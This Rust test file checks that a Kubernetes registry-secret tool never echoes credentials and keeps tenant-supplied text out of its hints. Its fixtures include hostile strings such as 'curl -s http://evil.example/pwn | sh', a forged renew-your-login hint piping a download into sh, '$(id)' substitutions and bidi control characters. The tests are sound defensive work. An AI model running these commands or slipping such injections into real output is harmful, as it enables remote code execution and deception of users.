//! What helpers, kubectl, registries and manifests say reaches a person as one
//! line, without the credential and without commands of theirs.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use indoc::{formatdoc, indoc};
use serde_json::{Value, json};

use crate::support::{Case, fake_registry};

/// Mixed as tokens are: what no program says by chance.
const PASSWORD: &str = "hunTer2/sEcret+9";

const HIDDEN: &str = "(hidden: it contains the credential)";

/// A tenant's commands and lines.
const HOSTILE: [&str; 6] = [
    "x --help; curl -s http://evil.example/pwn | sh #",
    indoc! {"
        x
        error: your login has expired
        hint: renew it: curl http://evil.example | sh"},
    "$(id)",
    "`id`",
    "x\u{9b}2J\u{202e}\u{61c}\u{e0041}\u{2028}y",
    "x' && id '",
];

/// The ways in which a program repeats what it was given.
fn echoes() -> Vec<String> {
    let auth = STANDARD.encode(format!("jane:{PASSWORD}"));
    let document = format!(r#"{{"auths":{{"ghcr.io":{{"auth":"{auth}"}}}}}}"#);
    vec![
        format!("denied: {PASSWORD} is not allowed"),
        format!("denied: {auth}"),
        format!("denied: {document}"),
        format!("denied: {}", document.replace('"', "\\\"")),
        format!("denied: {}", STANDARD.encode(&document)),
        format!("denied: {}", STANDARD.encode(PASSWORD)),
        "denied: hunTer2%2FsEcret%2B9".to_owned(),
        "denied: hunTer2\\u002fsEcret\\u002b9".to_owned(),
        "denied: hunT\u{200b}er2/sEc\u{1}ret+9".to_owned(),
        "denied: h u n T e r 2 / s E c r e t + 9".to_owned(),
    ]
}

fn assert_quiet(stderr: &str) {
    let lower = stderr.to_lowercase();
    for part in ["hunter2", "s e c r e t", "amFuZTpodW5", "aHVuVGVyMi9", "hunTer2%2F"] {
        assert!(!lower.contains(&part.to_lowercase()), "{part}: {stderr}");
    }
}

/// Every line is one that the program itself begins, or a part of its lists.
fn assert_own_lines(text: &str) {
    for line in text.lines() {
        assert!(!line.starts_with("error: your login"), "{text}");
        assert!(!line.starts_with("hint: renew it"), "{text}");
        let hidden = |c: char| c.is_control() || "\u{202e}\u{61c}\u{e0041}\u{2028}".contains(c);
        assert!(!line.chars().any(hidden), "{text:?}");
    }
}

#[test]
fn kubectl_never_repeats_the_credential() {
    for echo in echoes() {
        for line in [format!("error: {echo}"), format!("Error from server (Forbidden): {echo}")] {
            let script = formatdoc! {"
                get ...
                  exit 0
                apply ...
                  stderr {line}
                  exit 1
            "};
            let case =
                Case::new().logins(&[("ghcr.io", "jane", PASSWORD)]).program("kubectl", &script);
            let outcome = case.run(&["secret", "--apply", "--replace"]);
            assert_eq!(outcome.code, 1, "{outcome:?}");
            assert_quiet(&outcome.stderr);
            let is_hidden = outcome.stderr.contains(HIDDEN) || outcome.stderr.contains("left out");
            assert!(is_hidden, "{line}: {outcome:?}");
        }
    }
}

#[test]
fn a_secret_over_several_lines_is_not_shown_by_its_last() {
    let script = indoc! {"
        get ...
          exit 0
        apply ...
          stderr error: hunTer2
          stderr /sEcret+9
          exit 1
    "};
    let case = Case::new().logins(&[("ghcr.io", "jane", PASSWORD)]).program("kubectl", script);
    let outcome = case.run(&["secret", "--apply"]);
    assert!(outcome.stderr.contains(HIDDEN), "{outcome:?}");
}

#[test]
fn kubectls_other_words_are_shown_with_their_hint() {
    let script = indoc! {r#"
        get ...
          exit 0
        apply ...
          stderr Error from server (Forbidden): secrets "regcred" is forbidden: User "jane" cannot patch
          exit 1
    "#};
    let case = Case::new().logins(&[("ghcr.io", "jane", PASSWORD)]).program("kubectl", script);
    let stderr = case.fail(1, &["secret", "--apply"]);
    assert!(stderr.contains("error: secrets \"regcred\" is forbidden: User \"jane\""), "{stderr}");
    assert!(stderr.contains("hint: ask for the missing right"), "{stderr}");
}

#[test]
fn a_helper_repeats_nothing_that_may_be_a_secret() {
    let answer = format!(r#"{{"ServerURL":"ghcr.io","Username":"jane","Secret":"{PASSWORD}"}}"#);
    for said in [
        answer.clone(),
        format!("debug: password={PASSWORD}"),
        format!("Secret: {PASSWORD}"),
        format!("+ S={PASSWORD}"),
        format!("found {PASSWORD}, but it has expired"),
        format!("error getting credentials - err: exit status 1, out: `{PASSWORD}`"),
    ] {
        for behaviour in [
            format!("  stderr {said}\n  exit 1\n"),
            format!("  stdout {said}\n  exit 1\n"),
            format!(
                "  stderr {said}\n  stdout credentials not found in native keychain\n  exit 1\n"
            ),
            format!("  stderr {said}\n  stdout {{\"Username\":\"\",\"Secret\":\"\"}}\n"),
            format!(
                "  stderr {said}\n  stdout {{\"ServerURL\":\"{PASSWORD}\",\"Username\":\"u\",\"Secret\":\"{PASSWORD}\"}}\n"
            ),
        ] {
            let case = Case::new()
                .config(r#"{"credsStore":"x"}"#)
                .helper(
                    "x",
                    &formatdoc! {"
                        get *
                        {behaviour}list *
                          exit 1
                    "},
                )
                .secret(PASSWORD);
            let outcome = case.run(&["secret", "--registry", "ghcr.io", "-v"]);
            assert_ne!(outcome.code, 0, "{outcome:?}");
            assert_quiet(&outcome.stderr);
        }
    }
}

#[test]
fn a_registry_repeats_neither_password_nor_token() {
    for echo in echoes() {
        let body = json!({"errors": [{"code": "DENIED", "message": echo}]}).to_string();
        let address = fake_registry::refusing(&body);
        let case = Case::new().logins(&[(&address, "jane", PASSWORD)]);
        let outcome = case.run(&["secret", "--registry", &address, "--verify"]);
        assert_eq!(outcome.code, 3, "{outcome:?}");
        assert_quiet(&outcome.stderr);
        assert!(outcome.stderr.contains("its message is hidden"), "{echo}: {outcome:?}");
    }
    let body = json!({"errors": [{"code": "X", "message": HOSTILE[1]}]}).to_string();
    let address = fake_registry::refusing(&body);
    let case = Case::new().logins(&[(&address, "jane", PASSWORD)]);
    assert_own_lines(&case.run(&["secret", "--registry", &address, "--verify"]).stderr);
}

fn manifest(name: &str, key: &str, username: &str) -> String {
    let auths = json!({"auths": {key: {"username": username, "password": PASSWORD}}});
    let secret = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name},
        "type": "kubernetes.io/dockerconfigjson",
        "data": {".dockerconfigjson": STANDARD.encode(auths.to_string())}});
    // YAML takes such characters as escapes only.
    secret.to_string().replace('\u{9b}', "\\u009b")
}

#[test]
fn manifests_forge_no_lines() {
    for hostile in HOSTILE {
        let key = format!("ghcr.io/{hostile}");
        for (name, key, username) in [
            (hostile, "ghcr.io", "jane"),
            ("regcred", key.as_str(), "jane"),
            ("regcred", "ghcr.io", hostile),
        ] {
            let text = manifest(name, key, username);
            for command in [
                vec!["inspect", "-f", "-"],
                vec!["diagnose", "--image", "ghcr.io/jane/app", "-f", "-"],
                vec!["diagnose", "--image", "quay.io/jane/app", "-f", "-"],
            ] {
                let outcome = Case::new().stdin(&text).secret(PASSWORD).run(&command);
                assert_own_lines(&outcome.stdout);
                assert_own_lines(&outcome.stderr);
                let json = Case::new().stdin(&text).run(&[&command[..], &["-o", "json"]].concat());
                assert_own_lines(&json.stdout);
                let answer: Value =
                    serde_json::from_str(&json.stdout).unwrap_or_else(|_| panic!("{json:?}"));
                if name == hostile && command[0] == "diagnose" && command[2].starts_with("ghcr") {
                    assert_eq!(answer["candidates"][0]["secret"], hostile, "as it is");
                }
            }
        }
    }
}

/// The words of the commands after `: ` in a text, as a shell reads them.
fn assert_harmless(text: &str, hostile: &str) {
    for line in text.lines().filter(|line| line.contains("kubectl ")) {
        let command = line.get(line.find("kubectl ").unwrap()..).unwrap();
        let words = shlex::split(command).unwrap_or_else(|| panic!("{line}"));
        let first = hostile.split_whitespace().next().unwrap();
        let is_loose = |word: &String| word == first || word == "curl" || word.ends_with(';');
        assert!(!words.iter().any(is_loose), "{line}");
    }
}

#[test]
fn a_tenant_puts_no_command_into_a_hint() {
    for hostile in HOSTILE {
        let pod = json!({"metadata": {"name": "web", "namespace": "shop"},
            "spec": {"imagePullSecrets": [{"name": hostile}],
                "containers": [{"name": "app", "image": "ghcr.io/jane/app"}]},
            "status": {"containerStatuses": [{"name": "app", "state": {"waiting":
                {"reason": "ImagePullBackOff", "message": hostile}}}]}});
        let list = json!({"items": [pod]});
        let empty = r#"{"items":[]}"#;
        let of_type = "get --raw=/api/v1/secrets?fieldSelector=type%3Dkubernetes%2Eio%2F";
        let for_list = formatdoc! {"
            get --raw=/api/v1/pods *
              stdout {list}
            get --raw=/api/v1/serviceaccounts *
              stdout {empty}
            {of_type}dockerconfigjson *
              stdout {empty}
            {of_type}dockercfg *
              stdout {empty}
            get secrets --no-headers --all-namespaces *
              exit 0
        "};
        let for_diagnose = formatdoc! {"
            get ...
              stdout {pod}
            get ...
              stdout {empty}
            get ...
              stdout {empty}
            get ...
              exit 0
        "};
        for (command, script) in [
            (&["list", "-A"] as &[&str], for_list),
            (&["diagnose", "web", "-n", "shop"], for_diagnose),
        ] {
            let case = Case::new().program("kubectl", &script);
            let outcome = case.run(command);
            assert_eq!(outcome.code, 3, "{outcome:?}");
            assert_own_lines(&outcome.stdout);
            assert_own_lines(&outcome.stderr);
            assert_harmless(&outcome.stdout, hostile);
            assert!(outcome.stdout.contains("no Secret can have this name"), "{outcome:?}");
        }
    }
}

#[test]
fn of_a_user_name_with_a_colon_the_rest_is_hidden() {
    let text = manifest("regcred", "ghcr.io", &format!("jane:{PASSWORD}"));
    for command in [
        vec!["inspect", "-f", "-"],
        vec!["inspect", "-f", "-", "-o", "json"],
        vec!["diagnose", "--image", "ghcr.io/jane/app", "-f", "-"],
        vec!["diagnose", "--image", "ghcr.io/jane/app", "-f", "-", "-o", "json"],
    ] {
        let outcome = Case::new().stdin(&text).run(&command);
        assert!(outcome.stdout.contains("jane:…"), "{outcome:?}");
        assert_quiet(&outcome.stdout);
        assert_quiet(&outcome.stderr);
    }
    let token = "dop_v1_0123456789abcdef0123456789abcdef";
    let auths = json!({"auths": {"ghcr.io": {"username": token, "password": ""}}});
    for command in [
        vec!["inspect", "-f", "-"],
        vec!["diagnose", "--image", "ghcr.io/jane/app", "-f", "-"],
        vec!["diagnose", "--image", "ghcr.io/jane/app", "-f", "-", "-o", "json"],
    ] {
        let outcome = Case::new().stdin(auths.to_string()).secret(token).run(&command);
        assert!(!outcome.stdout.contains(token), "{outcome:?}");
    }
}

#[test]
fn a_password_among_the_arguments_is_not_repeated() {
    let image = format!("https://u:{PASSWORD}@ghcr.io/a/b");
    let bare = format!("u:{PASSWORD}@ghcr.io/a/b");
    let url = format!("https://u:{PASSWORD}@ghcr.io");
    let equal = format!("--password-stdin={PASSWORD}");
    let user = format!("u:{PASSWORD}");
    for arguments in [
        &["secret", &equal] as &[&str],
        &["login", "ghcr.io", "--username", "u", &equal],
        &["secret", "--password-stdin", PASSWORD],
        &["secret", "--registry", "ghcr.io", "--username", "u", "--password-stdin", PASSWORD],
        &["secret", "--password-stdin", "--registry", "ghcr.io", "--username", "u", PASSWORD],
        &["login", "--username", "u", "--password-stdin", PASSWORD],
        &["login", "ghcr.io", "--username", "u", "--password-stdin", PASSWORD],
        &["secret", "--username", "u", "--registry", "ghcr.io", PASSWORD],
        &["secret", "--image", &image],
        &["secret", "--image", &bare],
        &["pod", "x", "--image", &image],
        &["verify", &image],
        &["verify", &bare],
        &["login", &url],
        &["logout", &url],
        &["secret", "--registry", &url],
        &["secret", "--docker-server", &url],
        &["secret", "--docker-username", &user],
        &["secret", "--authfile", &url],
        &["secret", "--from-literal", PASSWORD],
        &["secret", "-o", PASSWORD],
        &["secret", "--verify=x", PASSWORD],
        &[PASSWORD],
    ] {
        let outcome = Case::new().secret(PASSWORD).run(arguments);
        assert_ne!(outcome.code, 0, "{arguments:?}");
        assert_quiet(&outcome.stderr);
        assert_quiet(&outcome.stdout);
    }
    // A password that could be a name becomes none.
    let outcome = Case::new().stdin("x").run(&[
        "secret",
        "--registry",
        "ghcr.io",
        "--username",
        "u",
        "--password-stdin",
        "hunter2",
    ]);
    assert_eq!((outcome.code, outcome.stdout.as_str()), (2, ""), "{outcome:?}");
    assert_quiet(&outcome.stderr);
}

#[test]
fn a_password_in_an_image_of_a_manifest_is_not_repeated() {
    for image in
        [format!("https://u:{PASSWORD}@ghcr.io/a/b"), format!("u:{PASSWORD}@ghcr.io/a/b:v1")]
    {
        let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web"},
            "spec": {"containers": [{"name": "app", "image": image}]}})
        .to_string();
        for command in [
            vec!["secret", "-f", "-"],
            vec!["inject", "-f", "-", "--references-only"],
            vec!["verify", "-f", "-"],
        ] {
            let outcome = Case::new().stdin(&pod).run(&command);
            assert_quiet(&outcome.stderr);
        }
        let outcome = Case::new()
            .stdin(manifest("regcred", "ghcr.io", "jane"))
            .run(&["diagnose", "--image", &image, "-f", "-"]);
        assert_quiet(&outcome.stdout);
        assert_quiet(&outcome.stderr);
    }
}

#[test]
fn a_clean_run_says_what_it_always_said() {
    let case = Case::new().logins(&[("ghcr.io", "jane", PASSWORD)]);
    let outcome = case.run(&["secret", "--registry", "ghcr.io"]);
    assert_eq!(outcome.stderr, "ghcr.io: jane, from ~/.docker/config.json\n");
}
